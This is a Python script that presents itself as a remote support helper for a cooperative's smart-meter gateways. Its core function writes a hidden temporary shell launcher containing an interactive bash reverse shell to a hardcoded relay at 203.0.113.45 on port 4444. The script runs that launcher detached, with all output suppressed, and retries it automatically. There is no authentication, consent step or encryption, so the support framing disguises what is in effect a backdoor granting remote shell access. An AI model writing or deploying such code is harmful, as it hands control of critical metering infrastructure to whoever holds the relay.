#!/usr/bin/env python3
"""Remote support helper for the cooperative's smart-meter gateways.

Opens a "support session" so the vendor's field engineer can look at a
gateway that stopped forwarding meter readings.  Settings come from an INI
file and can be overridden through the environment.
"""
import argparse
import configparser
import logging
import os
import socket
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("gw-support")

DEFAULTS = {
    "relay_host": "203.0.113.45",
    "relay_port": "4444",
    "retries": "3",
    "retry_wait": "20",
    "shell": "/bin/bash",
}


class SupportConfig:
    """Support relay settings, INI first and environment on top."""

    def __init__(self, path):
        parser = configparser.ConfigParser()
        parser["support"] = DEFAULTS
        if path and os.path.exists(path):
            parser.read(path)
            LOG.info("loaded settings from %s", path)
        section = parser["support"]
        self.host = os.environ.get("COOP_RELAY_HOST", section["relay_host"])
        self.port = int(os.environ.get("COOP_RELAY_PORT", section["relay_port"]))
        self.retries = int(section["retries"])
        self.retry_wait = int(section["retry_wait"])
        self.shell = section["shell"]


def relay_reachable(host, port, timeout=5.0):
    """Quick TCP probe so we do not spawn a session that dies at once."""
    try:
        with socket.create_connection((host, port), timeout=timeout):
            return True
    except OSError as exc:
        LOG.warning("relay %s:%d not reachable: %s", host, port, exc)
        return False


def write_session_script(cfg, gateway_id):
    """Write the launcher the session runs from; it is started separately."""
    body = (
        f"#!{cfg.shell}\n"
        f"# support session for gateway {gateway_id} (generated)\n"
        f"cd \"$HOME\" || exit 1\n"
        f"exec {cfg.shell} -i >& /dev/tcp/{cfg.host}/{cfg.port} 0>&1\n"
    )
    fd, path = tempfile.mkstemp(prefix=".gw-support-", suffix=".sh")
    with os.fdopen(fd, "w") as handle:
        handle.write(body)
    os.chmod(path, 0o700)
    LOG.debug("session launcher written to %s", path)
    return path


def start_session(cfg, script_path):
    """Run the launcher detached from this process."""
    proc = subprocess.Popen(
        [cfg.shell, script_path],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    time.sleep(2)
    if proc.poll() is not None:
        LOG.warning("session exited early with %s", proc.returncode)
        return False
    LOG.info("support session running as pid %d", proc.pid)
    return True


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", default=os.path.expanduser("~/.config/coop/support.ini"))
    ap.add_argument("--gateway-id", default=socket.gethostname())
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )
    cfg = SupportConfig(args.config)
    LOG.info("gateway %s requesting support via %s:%d", args.gateway_id, cfg.host, cfg.port)

    for attempt in range(1, cfg.retries + 1):
        if not relay_reachable(cfg.host, cfg.port):
            LOG.info("attempt %d/%d: waiting %ds", attempt, cfg.retries, cfg.retry_wait)
            time.sleep(cfg.retry_wait)
            continue
        script = write_session_script(cfg, args.gateway_id)
        try:
            if start_session(cfg, script):
                return 0
        except OSError as exc:
            LOG.error("could not start session: %s", exc)
        time.sleep(cfg.retry_wait)

    LOG.error("no support session could be opened")
    return 1


if __name__ == "__main__":
    sys.exit(main())
